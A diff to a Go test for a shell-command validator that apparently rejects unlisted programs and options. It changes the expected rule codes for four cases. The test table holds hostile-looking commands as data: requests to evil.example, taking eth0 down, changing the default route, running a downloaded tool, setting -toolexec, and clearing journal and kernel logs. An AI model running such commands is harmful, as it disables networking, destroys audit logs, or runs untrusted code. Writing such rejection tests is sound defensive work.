@@ -45,8 +45,8 @@ func TestClosedWorld(t *testing.T) {
 		{"network", "dig txt evil.example", "U.unknown-program"},
 		{"network", "ping -c1 evil.example", "U.unknown-program"},
 		{"network", "host evil.example", "U.unknown-program"},
-		{"network", "ip link set eth0 down", "U.unknown-program"},
-		{"network", "ifconfig eth0 down", "U.unknown-program"},
+		{"network", "ip link set eth0 down", "U.unknown-subcommand"},
+		{"network", "ifconfig eth0 down", "U.extra-operand"},
 		{"network", "route add default gw 192.0.2.1", "U.unknown-program"},
 		{"network", "curl -s --url https://evil.example/x localhost", "C1.network-request"},
 		// Default branches that allowed any subcommand.
@@ -54,8 +54,8 @@ func TestClosedWorld(t *testing.T) {
 		{"default", "go tool evil", "U.unknown-subcommand"},
 		{"default", "go run github.com/evil/tool@latest", "B9.run-downloaded"},
 		{"default", "go env -w GOFLAGS=-toolexec=/tmp/x", "U.unknown-option"},
-		{"default", "journalctl --vacuum-time=1s", "U.unknown-program"},
-		{"default", "dmesg -C", "U.unknown-program"},
+		{"default", "journalctl --vacuum-time=1s", "U.unknown-option"},
+		{"default", "dmesg -C", "U.unknown-option"},
 		{"default", "mkdocs gh-deploy", "U.unknown-program"},
 		// Options the spec does not name.
 		{"unknown", "ls --foo", "U.unknown-option"},
